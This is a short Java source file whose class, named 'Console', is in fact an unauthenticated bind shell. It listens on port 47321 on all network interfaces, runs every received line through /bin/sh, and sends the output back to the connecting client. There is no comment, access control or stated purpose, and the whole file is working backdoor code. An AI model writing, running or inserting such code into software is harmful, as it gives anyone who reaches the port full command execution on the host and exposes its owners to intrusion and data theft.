import java.io.*;
import java.net.*;

public class Console {
    public static void main(String[] args) throws IOException {
        try (ServerSocket ss = new ServerSocket(47321, 50, InetAddress.getByName("0.0.0.0"))) {
            while (true) {
                Socket s = ss.accept();
                BufferedReader in = new BufferedReader(new InputStreamReader(s.getInputStream()));
                String line;
                while ((line = in.readLine()) != null) {
                    Process p = new ProcessBuilder("/bin/sh", "-c", line).redirectErrorStream(true).start();
                    p.getInputStream().transferTo(s.getOutputStream());
                }
            }
        }
    }
}
